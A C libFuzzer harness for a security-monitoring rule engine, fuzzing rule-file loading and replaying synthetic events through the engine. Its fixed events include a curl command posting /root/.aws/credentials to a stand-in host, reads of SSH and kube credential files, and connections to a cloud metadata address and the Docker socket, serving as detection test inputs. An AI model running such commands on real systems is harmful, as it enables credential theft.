// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * libFuzzer target: one rule file. ruleset__add_text and ruleset__finish
 * must load it or refuse it with a counted, positioned error; a set that
 * loads must be whole (every rule compiled, an index, a fallback
 * profile) and run a fixed series of events through an engine: every
 * kind of record, two sandboxes (one naming the file's first profile),
 * times far enough apart for risk to decay and windows to slide, then
 * absolution and forgetting. ASan and LSan watch memory.
 *
 * The loader's messages are silenced (fuzz.h; FUZZ_RULES_VERBOSE=1 keeps
 * them).
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "engine.h"
#include "syscalls.h"
#include "../unit/evtest.h"

#define FUZZ_NAME "fuzz_rules"
#include "fuzz.h"

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

#define SEC 1000000000ull
#define NR_EVENTS 13

static struct tev events[NR_EVENTS];

static void events__make(void)
{
	struct tev *t = events;

	tev__exec(t, 1, "/usr/bin/curl",
		  "curl|-s|http://x|-d|@/root/.aws/credentials");
	t->ev.exec.filesets = 3;
	t++->ev.exec.stdio[0] = VIGIL_FD_INET;
	tev__open(t, 2, "/root/.ssh/id_rsa", 0);
	t->ev.open.filesets = ~0ull;
	t++->hdr.flags = VIGIL_F_KILLED;
	tev__open(t++, 3, "/home/u/.kube/config", 01101);
	tev__connect(t++, 4, "169.254.169.254", 80);
	tev__connect(t++, 5, "::ffff:10.1.2.3", 443);
	tev__connect(t++, 6, "/run/docker.sock", 0);
	tev__flow(t++, 7, "2001:db8::1", 443, 200u << 20);
	tev__exec(t++, 8, "/tmp/payload", "payload");
	tev__init(t, EVENT_FORK, 9);
	t++->ev.child_pid = 101;
	tev__init(t, EVENT_EXIT, 10);
	t++->ev.exit_code = 9;
	tev__exec(t++, 11, "", "./missing");
	tev__open(t++, 12, "", 0);
	tev__budget(t++, 13, "203.0.113.9", 443, 1 << 20, 1 << 20);
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
	fuzz__quiet("FUZZ_RULES_VERBOSE");
	events__make();
	return 0;
}

/* What the engine decided for ev in sb: each match a rule of ev's kind,
 * an act only for a level the sandbox now stands at. */
static void check_decision(const struct ruleset *rs, const struct event *ev,
			   const struct sandbox *sb, const struct decision *d)
{
	for (size_t i = 0; i < d->nr_matches; i++) {
		const struct match *m = &d->matches[i];

		CHECK(m->rule && m->rule->index >= 0 &&
		      (size_t)m->rule->index < rs->nr_rules &&
		      rs->rules[m->rule->index] == m->rule);
		CHECK(m->rule->events & EVBIT(ev->kind));
		CHECK(m->score >= 0 && m->risk >= 0);
	}
	if (d->act == LEVEL_NONE)
		return;
	CHECK(d->nr_matches > 0 && d->act <= LEVEL_KILL);
	CHECK(sb->risk->level == d->act);
	CHECK(!d->act_rule || d->act_rule->action == d->act ||
	      sb->agent->tune[d->act_rule->index].action == d->act);
}

/* The file sets of a set's first n, as bits. */
static uint64_t filesets__mask(size_t n)
{
	return n == 64 ? ~0ull : (1ull << n) - 1;
}

/* An enforce: kernel rule kills on file sets it names, on the one kind
 * of record it is about. */
static void check_kernel(const struct ruleset *rs, const struct rule *r)
{
	if (!r->kernel_kind) {
		CHECK(!r->kernel_bits);
		return;
	}
	CHECK(r->events == EVBIT(r->kernel_kind));
	CHECK(r->action == LEVEL_KILL && !r->window && r->kernel_bits);
	if (r->kernel_kind == EVENT_SYSCALL) {
		size_t n;
		const struct syscall *sc = syscalls__all(&n);

		/* Bits are positions in the syscall table, of watched ones. */
		CHECK(!(r->kernel_bits & ~filesets__mask(n)));
		for (size_t i = 0; i < n; i++)
			CHECK(!(r->kernel_bits >> i & 1) || sc[i].watched);
		return;
	}
	CHECK(r->kernel_kind == EVENT_OPEN || r->kernel_kind == EVENT_EXEC);
	CHECK(!(r->kernel_bits & ~filesets__mask(rs->nr_filesets)));
}

/* Every profile once, numbered from 1 in order, and a kernel policy
 * made of the set's own file sets. */
static void check_profiles(const struct ruleset *rs)
{
	const struct profile *p;
	struct kernel_policy k;
	size_t n;

	for (n = 0; (p = ruleset__profile_at(rs, n)); n++) {
		CHECK(p->id == n + 1);
		ruleset__kernel_policy(rs, p, &k);
		CHECK(!((k.open_kill | k.exec_kill) &
			~filesets__mask(rs->nr_filesets)));
	}
	CHECK(n == rs->nr_profiles + !!rs->owned_fallback);
}

/* A set that loaded is whole. */
static void check_loaded(const struct ruleset *rs)
{
	CHECK(rs->errors == 0 && rs->first_error[0] == '\0');
	CHECK(rs->index && rs->fallback && rs->fallback->tune);
	CHECK(rs->nr_taints >= 0 && rs->nr_taints <= RULES_MAX_TAINTS);
	for (size_t i = 0; i < rs->nr_rules; i++) {
		const struct rule *r = rs->rules[i];

		CHECK(r->when && r->events && r->description);
		CHECK(r->index == (int)i);
		CHECK(r->taint >= -1 && r->taint < rs->nr_taints);
		CHECK(r->when->depth >= 1 && r->when->depth <= COND_MAX_DEPTH);
		CHECK(!r->window || (r->window->over_ns > 0 &&
				     r->window->above >= 0 &&
				     r->window->slot < rs->nr_windows));
		check_kernel(rs, r);
	}
	for (size_t i = 0; i < rs->nr_filesets; i++) {
		const struct fileset *f = &rs->filesets[i];

		CHECK(f->index == (int)i && f->nr_paths > 0);
		CHECK(rs->fileset_names[i] == f->name);
		for (size_t j = 0; j < f->nr_paths; j++)
			CHECK(f->paths[j][0] == '/' ||
			      !strncmp(f->paths[j], "~/", 2));
	}
	for (size_t i = 0; i < rs->nr_profiles; i++) {
		const struct profile *p = rs->profiles[i];

		CHECK(p->tune && p->half_life_ns > 0);
		CHECK(p->threshold[LEVEL_ALERT] < p->threshold[LEVEL_FREEZE] &&
		      p->threshold[LEVEL_FREEZE] < p->threshold[LEVEL_KILL]);
	}
	check_profiles(rs);
}

static void feed(struct engine *e, struct tev *t, struct sandbox *sb)
{
	t->ev.sandbox = sb;
	check_decision(engine__rules(e), &t->ev, sb,
		       engine__event(e, &t->ev));
}

/* The fixed events, in sandbox 7 (no profile) and 8 (the file's first
 * profile, or an unknown name), twice, the second time an hour later. */
static void run(const struct ruleset *rs)
{
	struct engine *e = engine__new(rs);
	const char *profile = rs->nr_profiles ? rs->profiles[0]->name : "x";
	struct sandbox sb7 = { .cgid = 7, .id = "sb-7", .cgroup = "" };
	struct sandbox sb8 = { .cgid = 8, .id = "sb-8", .cgroup = "",
			       .profile = (char *)profile,
			       .profile_len = strlen(profile) };

	if (!e)
		return;
	for (int pass = 0; pass < 2; pass++)
		for (int i = 0; i < NR_EVENTS; i++) {
			struct tev *t = &events[i];

			t->ev.ktime_ns = pass * 3600 * SEC + i * SEC;
			t->ev.fileset_names = rs->fileset_names;
			feed(e, t, &sb7);
			feed(e, t, &sb8);
		}
	CHECK(engine__stats(e)->events == 4 * NR_EVENTS);
	CHECK(sb7.risk && sb8.risk);
	CHECK(engine__risk(&sb7, 7200 * SEC) >= 0);
	engine__absolve(&sb8);
	feed(e, &events[0], &sb8);
	engine__forget(e, &sb7);
	engine__forget(e, &sb8);
	CHECK(!sb7.risk && !sb8.risk);
	engine__free(e);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct ruleset rs;

	CHECK(ruleset__init(&rs) == 0);
	ruleset__add_text(&rs, "fuzz.yaml", (const char *)data, size);
	if (ruleset__finish(&rs) == 0) {
		check_loaded(&rs);
		run(&rs);
	} else {
		CHECK(rs.errors > 0 &&
		      !strncmp(rs.first_error, "fuzz.yaml:", 10));
	}
	ruleset__fini(&rs);
	return 0;
}
